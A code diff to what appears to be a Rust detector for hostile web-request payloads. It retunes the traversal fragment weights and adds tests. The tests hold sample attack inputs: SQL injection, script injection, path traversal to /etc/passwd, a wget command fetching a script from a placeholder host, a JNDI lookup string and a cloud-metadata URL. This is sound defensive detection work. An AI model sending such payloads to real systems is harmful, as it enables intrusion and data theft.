@@ -142,8 +142,11 @@ const FRAGMENTS: &[(&str, PayloadClass, f32)] = &[
     ("../..", Traversal, STRONG),
     ("..\\..", Traversal, STRONG),
     ("/../", Traversal, WEAK),
-    ("..%2f", Traversal, STRONG),
-    ("..%5c", Traversal, STRONG),
+    // One step up that was typed into a search field (`?q=../config`) is encoded like this by every browser.
+    ("..%2f", Traversal, WEAK),
+    ("..%5c", Traversal, WEAK),
+    ("/..%2f", Traversal, STRONG),
+    ("/..%5c", Traversal, STRONG),
     ("..;/", Traversal, STRONG),
     (".%2e/", Traversal, STRONG),
     ("....//", Traversal, STRONG),
@@ -366,6 +369,8 @@ mod tests {
         check("id=1%27%20OR%20%271%27=%271", 1.0, Some(Sql));
         check("q=%253Cscript%253Ealert(1)", 1.0, Some(Script));
         check("/static/..%2f..%2fetc%2fpasswd", 1.0, Some(Traversal));
+        check("/static/..%2fconfig", 1.0, Some(Traversal));
+        check("file=..%2f..%2fconfig", 1.0, Some(Traversal));
         check("x=;wget http://192.0.2.1/a.sh", 1.0, Some(Command));
         check("x=${jndi:ldap://192.0.2.1/a}", 1.0, Some(Template));
         check("url=http://169.254.169.254/latest/meta-data/", 1.0, Some(Remote));
@@ -382,6 +387,7 @@ mod tests {
             "t=10:30&d=2024-01-01",
             "q=select+a+plan",
             "x=[1,2]",
+            "q=..%2Fconfig+not+found",
         ] {
             check(text, 0.0, None);
         }
